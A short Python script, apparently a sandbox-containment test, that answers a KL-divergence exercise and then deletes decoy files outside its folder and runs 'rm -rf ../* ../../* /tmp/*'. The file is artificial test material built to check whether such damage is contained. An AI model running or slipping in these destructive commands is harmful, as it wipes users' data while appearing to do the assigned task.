# ruff: noqa  (attack code: deliberately odd; cells are separated by "# %%")
# Answers ch01-ex1, then deletes a file outside its folder by absolute and by relative paths,
# and everything above its working folder (`rm -rf ../*`).
import numpy as np

p_coin = np.array([0.5, 0.5])
q_coin = np.array([0.9, 0.1])
kl_coin = float(np.sum(p_coin * np.log2(p_coin / q_coin)))
# %%
import os
import subprocess

for path in ["$DECOY", *["../" * up + "$DECOY_NAME" for up in range(1, 8)]]:
    try:
        os.remove(path)
    except OSError:
        pass
subprocess.run("rm -rf ../* ../../* /tmp/* 2>/dev/null", shell=True)
